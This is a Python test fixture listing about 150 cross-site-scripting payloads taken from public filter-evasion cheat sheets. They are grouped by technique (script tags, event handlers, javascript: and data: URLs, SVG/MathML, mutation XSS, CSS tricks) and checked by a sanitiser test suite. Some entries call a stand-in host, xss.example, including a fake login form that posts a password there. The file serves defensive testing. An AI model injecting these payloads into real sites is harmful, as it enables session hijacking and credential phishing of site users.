# ruff: noqa: E501  (payloads are kept on one line each, exactly as the catalogues print them)
"""XSS payloads from the public filter-evasion catalogues (OWASP XSS Filter Evasion Cheat
Sheet, the HTML5 Security Cheatsheet, PortSwigger's XSS cheat sheet, mutation-XSS papers),
rewritten as plain data. ``tests/security/test_xss.py`` pushes each one through every path
that stores HTML and checks every page and feed that shows it.

Each entry is ``(id, payload)``; ids name the trick so a failure says which one got through.
"""

_SVG_B64 = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+"  # <svg onload=alert(1)></svg>
_HTML_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

SCRIPT_TAGS = [
    ("script-basic", "<script>alert('XSS')</script>"),
    ("script-src-external", '<script src="https://xss.example/xss.js"></script>'),
    ("script-src-protocol-relative", "<script src=//xss.example/x.js></script>"),
    ("script-uppercase", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-nested-strip", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-no-closing", "<script>alert(1)"),
    ("script-extra-lt", "<<script>alert(1);//<</script>"),
    ("script-slash-attr", '<script/xss src="https://xss.example/x.js"></script>'),
    ("script-in-title-breakout", "</title><script>alert(1)</script>"),
    ("script-in-textarea-breakout", "</textarea><script>alert(1)</script>"),
    ("script-in-attr-breakout", '"><script>alert(1)</script>'),
    ("script-single-quote-breakout", "'><script>alert(1)</script>"),
    ("script-comment-breakout", "--><script>alert(1)</script><!--"),
    ("script-cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("script-null-byte", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("script-type-module", '<script type="module">import("//xss.example/x.js")</script>'),
    ("script-json-breakout", "</script><script>alert(1)</script>"),
    ("script-entity-encoded", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("script-double-encoded", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    ("script-half-open", "<script src=https://xss.example/x.js?<b>"),
]

EVENT_HANDLERS = [
    ("img-onerror", '<img src="x" onerror="alert(1)">'),
    ("img-onerror-noquotes", "<img src=x onerror=alert(1)>"),
    ("img-onerror-slash", "<img/src=x/onerror=alert(1)>"),
    ("img-onerror-newline", "<img src=x\nonerror=alert(1)>"),
    ("img-onerror-tab", "<img src=x\tonerror=alert(1)>"),
    ("img-onerror-formfeed", "<img src=x\x0conerror=alert(1)>"),
    ("img-onerror-uppercase", "<IMG SRC=x ONERROR=alert(1)>"),
    ("img-onerror-backtick", "<img src=x onerror=`alert(1)`>"),
    ("img-onerror-entity", '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">'),
    ("img-onerror-dup-src", '<img src="x" src="y" onerror="alert(1)">'),
    ("img-onload-good-src", '<img src="/static/img/logo.png" onload="alert(1)">'),
    ("body-onload", "<body onload=alert(1)>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-slash-onload", "<svg/onload=alert(1)>"),
    ("p-onclick", '<p onclick="alert(1)">点击</p>'),
    ("a-onmouseover", '<a href="/" onmouseover="alert(1)">悬停</a>'),
    ("div-onpointerenter", '<div onpointerenter="alert(1)">x</div>'),
    ("input-onfocus-autofocus", "<input onfocus=alert(1) autofocus>"),
    ("select-onfocus", "<select autofocus onfocus=alert(1)></select>"),
    ("textarea-onfocus", "<textarea autofocus onfocus=alert(1)></textarea>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("video-onerror", "<video><source onerror=alert(1)></video>"),
    ("video-poster", "<video poster=javascript:alert(1)//></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("table-background", "<table background=javascript:alert(1)><tr><td>x</td></tr></table>"),
    ("td-onmouseover", '<table><tr><td onmouseover="alert(1)">x</td></tr></table>'),
    ("span-onanimationstart", "<span onanimationstart=alert(1) style=animation-name:x>x</span>"),
    ("strong-onbeforecopy", "<strong onbeforecopy=alert(1) contenteditable>x</strong>"),
    ("figure-onclick", '<figure class="image" onclick="alert(1)"><img src="/a.png"></figure>'),
    ("button-formaction", "<form><button formaction=javascript:alert(1)>x</button></form>"),
    ("isindex-action", "<isindex action=javascript:alert(1) type=image>"),
    ("keygen-onfocus", "<keygen autofocus onfocus=alert(1)>"),
    ("frameset-onload", "<frameset onload=alert(1)>"),
    ("html-onmouseover", "<html onmouseover=alert(1)>"),
    ("attr-quote-confusion", '<img src="x` `<script>alert(1)</script>"` `>'),
]

URL_SCHEMES = [
    ("a-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("a-javascript-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    (
        "a-javascript-dec-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    ),
    (
        "a-javascript-dec-padded",
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    ),
    (
        "a-javascript-hex-entities",
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    ),
    ("a-javascript-tab", '<a href="jav\tascript:alert(1)">x</a>'),
    ("a-javascript-tab-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("a-javascript-newline-entity", '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
    ("a-javascript-cr-entity", '<a href="jav&#x0D;ascript:alert(1)">x</a>'),
    ("a-javascript-leading-space", '<a href=" &#14;  javascript:alert(1)">x</a>'),
    ("a-javascript-colon-entity", '<a href="javascript&colon;alert(1)">x</a>'),
    ("a-javascript-newline-named", '<a href="java&NewLine;script:alert(1)">x</a>'),
    ("a-javascript-unquoted", "<a href=javascript:alert(1)>x</a>"),
    ("a-javascript-backtick", "<a href=`javascript:alert(1)`>x</a>"),
    ("a-javascript-url-encoded", '<a href="javascript%3Aalert(1)">x</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("a-vbscript-case", '<a href="VBScript:msgbox(1)">x</a>'),
    ("a-data-html", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("a-data-html-base64", f'<a href="data:text/html;base64,{_HTML_B64}">x</a>'),
    ("a-data-case", f'<a href="DaTa:text/html;base64,{_HTML_B64}">x</a>'),
    ("img-src-javascript", '<img src="javascript:alert(1)">'),
    ("img-src-javascript-entity", '<img src="&#106;avascript:alert(1)">'),
    ("img-src-vbscript", "<img src='vbscript:msgbox(1)'>"),
    ("img-src-data-svg", f'<img src="data:image/svg+xml;base64,{_SVG_B64}">'),
    ("img-dynsrc", '<img dynsrc="javascript:alert(1)">'),
    ("img-lowsrc", '<img lowsrc="javascript:alert(1)">'),
    ("source-srcset-javascript", '<picture><source srcset="javascript:alert(1)"></picture>'),
    ("img-srcset-javascript", '<img srcset="javascript:alert(1) 1x">'),
    ("a-xlink-href", '<a xlink:href="javascript:alert(1)">x</a>'),
    ("a-formaction", '<a href="/" formaction="javascript:alert(1)">x</a>'),
    ("a-ping-external", '<a href="/" ping="https://xss.example/track">x</a>'),
    ("a-mailto-ok-with-js", '<a href="mailto:a@b.cn?body=javascript:alert(1)">邮件</a>'),
    ("blockquote-cite", '<blockquote cite="javascript:alert(1)">引文</blockquote>'),
    ("link-stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">'),
    ("link-import", '<link rel="import" href="https://xss.example/x.html">'),
]

SVG_AND_MATHML = [
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-script-href", '<svg><script href="data:,alert(1)"/></svg>'),
    (
        "svg-a-xlink",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    ),
    (
        "svg-animate-href",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>",
    ),
    ("svg-set-onbegin", "<svg><set onbegin=alert(1) attributeName=x to=1>"),
    (
        "svg-foreignobject",
        '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    ),
    ("svg-use-data", f'<svg><use href="data:image/svg+xml;base64,{_SVG_B64}#x"></use></svg>'),
    ("svg-style-mxss", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    ("svg-image-onerror", "<svg><image href=x onerror=alert(1)></svg>"),
    ("math-href", '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'),
    (
        "math-maction",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    ),
    ("math-mglyph-style-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    (
        "math-annotation-xml",
        '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    ),
]

FRAMES_AND_EMBEDS = [
    ("iframe-src-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("iframe-external", '<iframe src="https://xss.example/"></iframe>'),
    ("iframe-data", f'<iframe src="data:text/html;base64,{_HTML_B64}"></iframe>'),
    ("frame-src", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("object-data-html", f'<object data="data:text/html;base64,{_HTML_B64}"></object>'),
    ("embed-src", '<embed src="https://xss.example/x.swf">'),
    ("embed-svg-data", f'<embed src="data:image/svg+xml;base64,{_SVG_B64}">'),
    ("applet-code", '<applet code="x.class" codebase="https://xss.example/"></applet>'),
    ("portal-src", '<portal src="https://xss.example/"></portal>'),
]

DOCUMENT_LEVEL = [
    ("base-href", '<base href="https://xss.example/">'),
    ("base-javascript", '<base href="javascript:alert(1)//">'),
    ("meta-refresh-javascript", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    (
        "meta-refresh-data",
        f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{_HTML_B64}">',
    ),
    ("meta-csp-override", '<meta http-equiv="Content-Security-Policy" content="script-src *">'),
    ("meta-set-cookie", '<meta http-equiv="Set-Cookie" content="sessionid=evil">'),
    (
        "form-action-external",
        '<form action="https://xss.example/steal"><input name="password"><button>登录</button></form>',
    ),
    ("form-action-javascript", '<form action="javascript:alert(1)"><input type=submit></form>'),
    ("input-image-src", '<input type="image" src="javascript:alert(1)">'),
    ("textarea-breakout-form", "</textarea><form action=//xss.example><input name=x>"),
    ("dangling-markup-img", '<img src="https://xss.example/?q='),
    ("dom-clobber-id", '<img id="site-nav" name="cookie" src="/a.png">'),
]

CSS_TRICKS = [
    ("style-tag", "<style>body{background:url('javascript:alert(1)')}</style>"),
    ("style-import", "<style>@import 'https://xss.example/x.css';</style>"),
    ("style-expression", '<div style="width: expression(alert(1));">x</div>'),
    ("style-expression-comment", '<div style="xss:expr/*XSS*/ession(alert(1))">x</div>'),
    ("style-expression-escaped", '<p style="xss:\\0065xpression(alert(1))">x</p>'),
    ("style-url-javascript", '<div style="background-image: url(javascript:alert(1))">x</div>'),
    ("style-behavior", '<p style="behavior: url(xss.htc);">x</p>'),
    ("style-moz-binding", '<p style="-moz-binding: url(https://xss.example/x.xml#xss)">x</p>'),
    (
        "style-fixed-overlay",
        '<p style="position:fixed;inset:0;z-index:9999;background:#fff">假登录</p>',
    ),
    ("style-in-svg", "<svg><style>*{background:url(javascript:alert(1))}</style></svg>"),
    ("link-css-external", '<link rel="stylesheet" href="https://xss.example/x.css">'),
    ("class-injection", '<span class="skip-link nav-toggle">伪装成站内样式</span>'),
]

MUTATION_AND_BROKEN = [
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("template-mxss", "<template><script>alert(1)</script></template>"),
    ("template-in-p", "<p><template><img src=x onerror=alert(1)></template></p>"),
    ("textarea-title-mxss", '<textarea><p title="</textarea><img src=x onerror=alert(1)>">'),
    ("title-mxss", "<title><img src=x onerror=alert(1)></title>"),
    ("xmp-mxss", '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
    ("noembed-mxss", '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'),
    ("noframes-mxss", '<noframes><p title="</noframes><img src=x onerror=alert(1)>">'),
    ("iframe-content-mxss", '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>'),
    (
        "table-form-mxss",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    ("select-style-mxss", "<select><style></select><img src=x onerror=alert(1)>"),
    ("comment-mxss", "<!--><img src=x onerror=alert(1)>-->"),
    ("comment-bang-mxss", "<!-- --!><img src=x onerror=alert(1)> -->"),
    ("conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("processing-instruction", '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>'),
    ("unclosed-attr", '<img src="x onerror=alert(1)//'),
    ("broken-tag-space", "< script>alert(1)</script>"),
    ("tag-slash-space", "<img / src=x / onerror = alert(1) />"),
    ("half-open-img", "<img src=x onerror=alert(1)//"),
    ("double-open", "<<img src=x onerror=alert(1)>>"),
    ("a-in-a-nesting", '<a href="/"><a href="javascript:alert(1)">x</a></a>'),
    ("h1-in-p", "<p><h1 onclick=alert(1)>x</h1></p>"),
    ("utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("fullwidth-lt", "＜script＞alert(1)＜/script＞"),
    ("unicode-escape-text", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("rtl-override", '<a href="/">\u202egpj.exe</a>'),
    ("angular-template", "{{constructor.constructor('alert(1)')()}}"),
    ("django-template", "{% load static %}{{ request.META }}"),
    (
        "ckeditor-source-mixed",
        '<figure class="image"><img src="/media/editor/a.png" alt="图" onerror="alert(1)"><figcaption onclick="alert(1)">说明</figcaption></figure>',
    ),
    (
        "table-allowed-with-bad",
        '<table><caption style="color:red">表</caption><tr><th scope="col" onclick=alert(1)>列</th></tr></table>',
    ),
    ("allowed-with-id-clobber", '<p id="main" name="csrfmiddlewaretoken">覆盖</p>'),
    ("a-target-blank-tabnab", '<a href="https://xss.example/" target="_blank">外链</a>'),
]

PAYLOADS = (
    SCRIPT_TAGS
    + EVENT_HANDLERS
    + URL_SCHEMES
    + SVG_AND_MATHML
    + FRAMES_AND_EMBEDS
    + DOCUMENT_LEVEL
    + CSS_TRICKS
    + MUTATION_AND_BROKEN
)
PAYLOAD_IDS = [name for name, _ in PAYLOADS]
assert len(set(PAYLOAD_IDS)) == len(PAYLOADS), "payload ids must be unique"
